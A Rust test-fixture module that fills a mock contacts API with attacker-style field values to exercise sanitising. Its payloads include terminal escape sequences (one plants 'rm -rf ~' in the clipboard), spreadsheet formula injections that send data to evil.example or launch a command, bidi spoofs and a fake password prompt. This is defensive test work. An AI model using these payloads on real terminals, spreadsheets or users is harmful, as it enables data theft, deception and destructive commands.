//! Hostile mode: contacts whose fields were typed by an attacker, and error replies whose text
//! tries to drive the terminal, so that the product's sanitising can be tried as an attacker
//! would, in the browser and the command line alike.
//!
//! A quarter of the contacts, chosen by a hash of their `_id` (so the same ones on every page
//! and every request), get a hostile name, e-mail, tag and last message: terminal escapes (a
//! window title, a screen clear, OSC 52 clipboard writes, C1 controls), spreadsheet formulas,
//! bidi overrides, zero-width and line-separator characters, wide and combining text. A few of
//! those carry text no JSON parser takes as it is: a lone surrogate escape (`\ud800`), which
//! makes the contact unreadable, or bytes that are not UTF-8. Both are written into the
//! serialised page, since a `serde_json::Value` cannot hold them.
//!
//! The data filters still work on the contacts as generated: a disguised name is not what a
//! `searchText` matches.

use serde_json::Value;

/// One contact in this many is disguised.
const DISGUISED_ONE_IN: u64 = 4;
/// One disguised contact in this many carries a lone surrogate, and as many again bytes that
/// are not UTF-8.
const BROKEN_ONE_IN: u64 = 50;

/// Stands for `\ud800` in a serialised page: a private-use character, which serde_json writes
/// as it is and no generated field contains.
const LONE_SURROGATE_MARK: &str = "\u{f8ff}lone-surrogate\u{f8ff}";
/// Stands for two bytes that are not UTF-8.
const NOT_UTF8_MARK: &str = "\u{f8ff}not-utf8\u{f8ff}";

/// Names as an attacker would type them into a website's chat form.
const NAMES: [&str; 12] = [
    "Eve\u{1b}]0;you have been pwned\u{7}\u{1b}[2J",
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open\")",
    "\t=1+1",
    "+1 (555) 0100",
    "-2+3",
    "@SUM(A1:A9)",
    "Ann\u{202e}gpj.exe",
    "Bo\u{200b}\u{200b}b\u{2066} Smith",
    "Line\u{2028}Break\u{2029}Para",
    "Mallory\u{1b}]52;c;ZWNobyBwd25lZA==\u{7}",
    "\u{9b}31mRed\u{9b}0m Alert",
    "👩\u{200d}👩\u{200d}👧\u{200d}👦 Zalgo z\u{0336}\u{0335}a\u{0337}l\u{0338}",
];

const MESSAGES: [&str; 6] = [
    "click here\u{1b}[8m hidden \u{1b}[0m",
    "\u{1b}[1;1H\u{1b}[2Jyour session expired, type your password:",
    "refund ok\r\u{1b}[Kdelete all",
    "price \u{202e}001$\u{202c} only",
    "=cmd|' /C calc'!A0",
    "a\u{0}b\u{7f}c\u{85}d",
];

const EMAILS: [&str; 4] = [
    "=IMPORTXML(\"http://evil.example\",\"//a\")@x.example",
    "evil\u{1b}[31m@example.com",
    "-1+1@example.com",
    "bi\u{202e}moc.elpmaxe@di",
];

const TAGS: [&str; 4] = ["@admin", "+vip", "vip\u{200b}", "tag\u{1b}[5mblink"];

/// A stable number from a contact's `_id`, to choose who is disguised and how.
fn id_hash(contact: &Value) -> Option<u64> {
    let id = contact.get("_id")?.as_str()?;
    Some(id.bytes().fold(0xcbf2_9ce4_8422_2325_u64, |hash, byte| {
        (hash ^ u64::from(byte)).wrapping_mul(0x0100_0000_01b3)
    }))
}

/// Disguises `contact` if its `_id` picks it.
pub(crate) fn disguise(contact: &mut Value) {
    let Some(hash) = id_hash(contact) else {
        return;
    };
    if hash % DISGUISED_ONE_IN != 0 {
        return;
    }
    let pick = hash / DISGUISED_ONE_IN;
    let choose =
        |list: &[&'static str], salt: u64| list[((pick ^ salt) % list.len() as u64) as usize];
    let broken = (pick / 7) % BROKEN_ONE_IN;
    let name = match broken {
        0 => format!("Lone{LONE_SURROGATE_MARK}"),
        1 => format!("Bytes{NOT_UTF8_MARK}"),
        _ => choose(&NAMES, 0).to_owned(),
    };
    if let Some(details) = contact.pointer_mut("/profile/userDetails") {
        details["name"] = Value::from(name);
        if let Some(email) = details.pointer_mut("/contact/email") {
            *email = Value::from(choose(&EMAILS, 0x51));
        }
        if let Some(Value::Array(tags)) = details.get_mut("tags") {
            tags.push(Value::from(choose(&TAGS, 0x77)));
        }
    }
    if let Some(text) = contact.pointer_mut("/lastMessage/text") {
        *text = Value::from(choose(&MESSAGES, 0x33));
    }
}

/// A serialised page with the marks replaced by what they stand for.
pub(crate) fn break_text(body: Vec<u8>) -> Vec<u8> {
    let marks: [(&[u8], &[u8]); 2] = [
        (LONE_SURROGATE_MARK.as_bytes(), b"\\ud800"),
        (NOT_UTF8_MARK.as_bytes(), b"\xff\xfe"),
    ];
    let mut out = Vec::with_capacity(body.len());
    let mut rest = body.as_slice();
    'scan: while !rest.is_empty() {
        for (mark, replacement) in marks {
            if rest.starts_with(mark) {
                out.extend_from_slice(replacement);
                rest = &rest[mark.len()..];
                continue 'scan;
            }
        }
        out.push(rest[0]);
        rest = &rest[1..];
    }
    out
}

/// An error reply's message, with escapes that would set the window title, clear the screen
/// and write the clipboard if printed raw.
pub(crate) fn error_message(message: &str) -> String {
    format!("{message}\u{1b}]0;pwned\u{7}\u{1b}[2J\u{1b}]52;c;cm0gLXJmIH4=\u{7}\u{9b}31m")
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn contact(id: &str) -> Value {
        json!({
            "_id": id,
            "lastMessage": {"text": "hi"},
            "profile": {"userDetails": {"name": "Jo", "tags": [], "contact": {"email": "a@b.c"}}}
        })
    }

    #[test]
    fn about_a_quarter_is_disguised_always_the_same_ones() {
        let ids: Vec<String> = (0..4000).map(|n| format!("{n:024x}")).collect();
        let disguised: Vec<&String> = ids
            .iter()
            .filter(|id| {
                let mut first = contact(id);
                disguise(&mut first);
                let mut again = contact(id);
                disguise(&mut again);
                assert_eq!(first, again, "{id} is disguised the same way each time");
                first != contact(id)
            })
            .collect();
        assert!(
            (800..1200).contains(&disguised.len()),
            "{}",
            disguised.len()
        );
    }

    #[test]
    fn marks_become_a_lone_surrogate_and_bytes_that_are_not_utf8() {
        let body = serde_json::to_vec(&json!({
            "a": format!("x{LONE_SURROGATE_MARK}y"),
            "b": format!("{NOT_UTF8_MARK}"),
        }))
        .expect("serialisable");
        let broken = break_text(body);
        assert_eq!(broken, b"{\"a\":\"x\\ud800y\",\"b\":\"\xff\xfe\"}".to_vec());
        assert!(serde_json::from_slice::<Value>(&broken).is_err());
    }
}
